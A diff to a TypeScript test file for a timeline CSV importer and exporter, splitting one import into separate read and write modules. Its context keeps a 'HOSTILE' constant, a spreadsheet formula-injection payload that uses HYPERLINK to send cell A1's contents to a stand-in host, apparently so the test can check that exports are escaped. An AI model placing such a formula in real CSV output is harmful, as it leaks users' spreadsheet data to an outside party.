@@ -8,7 +8,9 @@
  */
 import { csvParseRows } from 'd3-dsv';
 import { describe, expect, it } from 'vitest';
-import { DATELINE_COLUMNS, fromDatelineCsv, toDatelineCsv } from '../../../src/import/dateline-csv';
+import { DATELINE_COLUMNS } from '../../../src/import/dateline-csv';
+import { fromDatelineCsv } from '../../../src/import/dateline-csv-read';
+import { toDatelineCsv } from '../../../src/import/dateline-csv-write';
 import type { TimelineInput } from '../../../src/format/types';
 
 const HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1, "click")';
